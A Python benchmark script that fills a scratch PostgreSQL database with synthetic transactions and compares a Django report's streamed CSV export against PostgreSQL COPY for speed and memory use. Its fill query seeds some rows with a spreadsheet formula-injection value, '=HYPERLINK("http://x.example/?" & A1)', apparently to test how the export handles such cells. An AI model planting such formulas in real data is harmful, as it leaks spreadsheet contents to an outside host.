"""CSV export of a large report over HTTP, against PostgreSQL's COPY of the same rows.

Fills the transactions table of a scratch database with N rows (1,000,000 by
default) in one INSERT ... SELECT over generate_series, then in one run:
  1. exports POST /api/v1/reports/transactions-report {"export_type": "csv"}
     through Django's test Client, reading the streamed response block by block
     (the whole file is never held), and
  2. times `COPY (<the report's own SELECT>) TO STDOUT (FORMAT csv)` of the same
     rows through psycopg's `cursor.copy()`, reading every block as well;
and prints both times, their ratio, and how much the process's memory grew
during the export. Goals: within 5 times the COPY, and under 50 MB of growth.

The export is measured on both of the engine's CSV paths (`--path`): `copy`, the
one PostgreSQL uses (the report's SELECT, cells shaped for CSV in SQL, run as
COPY and streamed), and `cursor`, the one used elsewhere and for reports with
masked columns (batches from a server-side cursor written by csv.writer), forced
here with REPORT_CSV_COPY = False.

Run from the project root against PostgreSQL (a scratch database
`<name>_reports_bench` is created and dropped):
    DATABASE_URL=postgres://postgres@127.0.0.1:5432/h_reports \\
        .venv/bin/python bench/reports_csv_export.py [--rows 1000000] [--rounds 2] \\
        [--path copy|cursor|both]
"""

import argparse
import gc
import json
import os
import resource
import sys
import time
from pathlib import Path

import django

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "config.settings")

REPORT = "transactions-report"
URL = f"/api/v1/reports/{REPORT}"

FILL = """
INSERT INTO recharge_transaction (
    reference, user_id, category, txn_type, amount, gross_amount, discount_amount, source,
    status, payment_method, service_type, phone_number, plan_id, offer_id, gateway,
    gateway_reference, failure_reason, created_at, updated_at
)
SELECT
    gen_random_uuid(),
    %(first_user)s + (n %% %(users)s),
    CASE WHEN n %% 3 = 0 THEN 'wallet' ELSE 'service' END,
    CASE WHEN n %% 3 = 0 THEN 'credit' ELSE 'debit' END,
    ((n %% 900) + 99)::numeric(14, 2),
    CASE WHEN n %% 3 = 0 THEN NULL ELSE ((n %% 900) + 119)::numeric(14, 2) END,
    CASE WHEN n %% 3 = 0 THEN 0 ELSE 20 END,
    CASE WHEN n %% 3 = 0 THEN 'wallet_topup' ELSE 'recharge' END,
    CASE WHEN n %% 50 = 0 THEN 'failed' ELSE 'success' END,
    CASE WHEN n %% 3 = 0 THEN 'UPI' ELSE 'wallet' END,
    CASE WHEN n %% 3 = 0 THEN '' ELSE 'mobile' END,
    '+9198' || lpad((n %% 100000000)::text, 8, '0'),
    CASE WHEN n %% 3 = 0 THEN NULL ELSE %(plan)s END,
    CASE WHEN n %% 7 = 0 THEN %(offer)s ELSE NULL END,
    CASE WHEN n %% 3 = 0 THEN 'razorpay' ELSE '' END,
    CASE WHEN n %% 3 = 0 THEN 'pay_' || n ELSE '' END,
    -- a cell a spreadsheet would run as a formula, now and then
    CASE WHEN n %% 50 = 0 THEN '=HYPERLINK("http://x.example/?" & A1)' ELSE '' END,
    now() - (n || ' seconds')::interval,
    now()
FROM generate_series(1, %(rows)s) AS n
"""


def peak_rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # kB on Linux


def rss_mb() -> float:
    """The process's resident memory now (Linux)."""
    with open("/proc/self/statm") as statm:
        return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 2**20


def fill(rows: int) -> None:
    from datetime import timedelta

    from django.db import connection
    from django.utils import timezone

    from accounts.models import User
    from recharge.models import Offer, OfferType, Plan, PlanGroup

    users = 1000
    User.objects.bulk_create(
        User(
            username=f"sub{n}",
            email=f"sub{n}@example.com",
            first_name="Sub",
            last_name=f"Scriber {n}",
            subscriber_type="prepaid",
            password="!",  # no password: these accounts never sign in
        )
        for n in range(1, users + 1)
    )
    first_user = User.objects.filter(username="sub1").values_list("pk", flat=True).get()
    group = PlanGroup.objects.create(group_name="Bench")
    plan = Plan.objects.create(plan_name="Unlimited 28", group=group, validity=28, price="299.00")
    now = timezone.now()
    offer = Offer.objects.create(
        offer_name="Festive",
        offer_type=OfferType.objects.create(offer_type_name="Festive"),
        offer_validity=30,
        discount_value="20.00",
        valid_from=now - timedelta(days=1),
        valid_to=now + timedelta(days=29),
    )
    with connection.cursor() as cursor:
        cursor.execute(
            FILL,
            {
                "first_user": first_user,
                "users": users,
                "plan": plan.pk,
                "offer": offer.pk,
                "rows": rows,
            },
        )
        cursor.execute("ANALYZE")


def export_over_http(client, body: dict) -> tuple[float, int, int, float, float]:
    """Seconds, bytes and lines of one export, and how much memory grew during it (MB).

    Growth is measured twice: the resident memory sampled at every block against the
    memory before the request, and the growth of the process's peak (ru_maxrss), which
    shows only when the export goes past the peak that setting up had already reached.
    """
    gc.collect()
    before, peak_before = rss_mb(), peak_rss_mb()
    highest = before
    started = time.perf_counter()
    response = client.post(URL, json.dumps(body), content_type="application/json")
    assert response.status_code == 200, (response.status_code, response.content[:500])
    assert response.streaming, "the export must stream"
    size = lines = 0
    for block in response.streaming_content:
        size += len(block)
        lines += block.count(b"\n")
        highest = max(highest, rss_mb())
    response.close()
    seconds = time.perf_counter() - started
    return seconds, size, lines, highest - before, peak_rss_mb() - peak_before


def copy_same_rows(user, body: dict) -> tuple[float, int, int]:
    """Seconds, bytes and lines of COPY (the report's SELECT) TO STDOUT in CSV."""
    from django.db import connection

    from reports import engine
    from reports.registry import REGISTRY

    report = REGISTRY[REPORT]
    request = engine.ReportRequest(report, body)
    rows = engine.queryset_for(report, request, user)
    sql, params = rows.values_list(*(c.path for c in report.columns)).query.sql_with_params()
    started = time.perf_counter()
    size = lines = 0
    with connection.cursor() as cursor:
        copy_sql = (
            f"COPY ({cursor.cursor.mogrify(sql, params)}) TO STDOUT (FORMAT csv, HEADER true)"
        )
        with cursor.cursor.copy(copy_sql) as copy:
            for block in copy:
                size += len(block)
                lines += bytes(block).count(b"\n")
    return time.perf_counter() - started, size, lines


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rows", type=int, default=1_000_000)
    parser.add_argument("--rounds", type=int, default=2, help="exports and COPYs (best is kept)")
    parser.add_argument("--chunk", type=int, help="rows per fetch (reports.fetch.CHUNK)")
    parser.add_argument("--path", choices=("copy", "cursor", "both"), default="both")
    args = parser.parse_args()

    django.setup()
    import logging

    from django.conf import settings
    from django.db import connection
    from django.test import Client
    from django.test.utils import setup_test_environment

    from reports import fetch

    if args.chunk:
        fetch.CHUNK = args.chunk
    logging.disable(logging.CRITICAL)
    if connection.vendor != "postgresql":
        sys.exit("Set DATABASE_URL to a PostgreSQL database: the bench compares with its COPY.")
    setup_test_environment()
    settings.ALLOWED_HOSTS = ["*"]
    settings.REPORT_ASYNC_THRESHOLD = 10**12  # stream inline, however many rows
    base_name = connection.settings_dict["NAME"]
    connection.settings_dict.setdefault("TEST", {})["NAME"] = f"{base_name}_reports_bench"
    old_name = connection.creation.create_test_db(verbosity=0, autoclobber=True)
    try:
        from accounts.models import User

        started = time.perf_counter()
        fill(args.rows)
        print(f"filled {args.rows:,} transactions in {time.perf_counter() - started:.1f} s")
        analyst = User.objects.create_superuser(
            username="analyst", email="analyst@example.com", password="x" * 16
        )
        client = Client()
        client.force_login(analyst)
        body = {"export_type": "csv", "order_by": "transaction_id"}
        export_over_http(client, {**body, "limit": 1000})  # warm up: imports, first queries

        copies = [copy_same_rows(analyst, body) for _ in range(args.rounds)]
        copy_seconds, copy_size, copy_lines = min(copies)
        assert copy_lines == args.rows + 1, copy_lines
        print(f"COPY ... TO STDOUT: {copy_seconds:.2f} s, {copy_size / 2**20:.1f} MiB")
        for path in ("copy", "cursor") if args.path == "both" else (args.path,):
            settings.REPORT_CSV_COPY = path == "copy"
            exports = [export_over_http(client, body) for _ in range(args.rounds)]
            seconds, size, lines, *_ = min(exports)
            assert lines == args.rows + 1, lines
            print(
                f"[{path} path] HTTP CSV export: {seconds:.2f} s, {size / 2**20:.1f} MiB, "
                f"{lines - 1:,} rows ({args.rows / seconds:,.0f} rows/s)"
                + ("" if path == "copy" else f", {fetch.CHUNK:,} rows per fetch")
            )
            print(
                f"[{path} path] ratio export/COPY: {seconds / copy_seconds:.2f} (goal: at most 5)"
            )
            print(
                f"[{path} path] memory growth during the export: "
                f"{max(export[3] for export in exports):.1f} MB resident at most "
                f"(ru_maxrss grew {max(export[4] for export in exports):.1f} MB; goal: under 50)"
            )
    finally:
        connection.creation.destroy_test_db(old_name, verbosity=0)


if __name__ == "__main__":
    main()
